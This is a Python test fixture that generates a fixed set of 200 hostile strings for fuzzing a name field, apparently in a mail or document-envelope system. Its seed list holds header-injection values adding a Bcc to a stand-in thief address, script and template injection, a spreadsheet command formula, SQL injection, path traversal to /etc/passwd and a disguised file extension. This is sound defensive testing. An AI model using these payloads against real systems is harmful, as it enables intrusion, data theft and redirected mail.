"""Two hundred hostile names, the same each time: what people, scanners and thieves type.

Header and log injection, encoded words, quotes, markup, template and format syntax, spreadsheet
formulas, SQL, paths and reserved names, bidirectional and invisible characters, surrogates,
normalisation traps, very long ones; the rest are pairs of these.
"""

import random

SEEDS = [
    "\r\nBcc: thief@evil.example", "\nBcc: thief@evil.example", "\rBcc: thief@evil.example",
    "\r\n\r\n<html>", "%0d%0aBcc: thief@evil.example", "\\r\\nBcc: x", "\u2028Bcc: x",
    "\u2029Bcc: x", "\x85Bcc: x", "\x0bBcc: x", "\x0cBcc: x", "\x00Bcc: x", "\x1b[31m",
    "\x7f", "\u200b\ufeff", "=?utf-8?q?=0D=0ABcc:_thief=40evil.example?=",
    "=?utf-8?b?DQpCY2M6IHg=?=", "=?", "?=", "=?x?y?z?=", '"', '"; x="', "'", "\\", '\\"',
    "(comment)", ")(", "<thief@evil.example>", "a@b, c@d", ";", ":", "thief@evil.example,",
    ">, thief@evil.example <", "@", "@@@", ".", "..", " ", "\t", "\u3000",
    "<script>alert(1)</script>", "<svg onload=alert(1)>", "&lt;b&gt;", "</title><script>",
    "-->", "<!--", '" onmouseover="x', "javascript:alert(1)", "{{ 7*7 }}",
    "{% include 'x' %}", "{#", "%(title)s", "%s%n", "{0.__class__}", "${7*7}",
    "=cmd|' /C calc'!A0", "../../etc/passwd", "file:///etc/passwd", "CON", "\u202egpj.exe",
    "\u2066x\u2069", "\u200fשלום", "مرحبا", "👩‍⚖️🖋️", "𠮷野家", "髙橋﨑", "ｶﾞｷﾞｸﾞ",
    "e\u0301" * 30, "Z\u0351\u036b\u0343\u036a", "\ud800", "\udfff\ud800", "あ" * 3000,
    "x" * 5000, "あ " * 400, "=" * 100, "?" * 100, "_" * 100, "-" * 100, "\n" * 100,
    ".\r\n.\r\n", "From me", ">From me", "--boundary--",
    "thief@evil.example, " + "x" * 90, "thief@evil.example," + "y" * 90 + "あ",
    "Content-Type: text/html",
    "undefined", "null", "nan", "", "0", "true",
    "'; DROP TABLE envelopes;--", "' OR '1'='1", "%", "_", "+1+1", "-1+1", "@SUM(1)",
    "/dev/null", "..%2f..%2f", "C:\\\\x", "a/b\\\\c", "NUL.pdf", ".htaccess", "x.pdf\x00.exe",
    "\u2126\u00c5\u212b", "\ufb01\ufdfa", "\uff1cscript\uff1e", "\uff0e\uff0e\uff0f",
    "\u0130\u0131\u017f",
    "\U000e0001\U000e0041", "\ue000", "\ufffe\uffff", "\u115f\u3164",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
]  # fmt: skip

DICE = random.Random(2822)  # noqa: S311 - the same names each time
NAMES = SEEDS + ["".join(DICE.sample(SEEDS, 2)) for _ in range(200 - len(SEEDS))]


def storable(name: str) -> str:
    """As it can come out of a row: no form carries a lone surrogate or a NUL."""
    return name.encode("utf-8", "replace").decode().replace("\x00", "\ufffd")
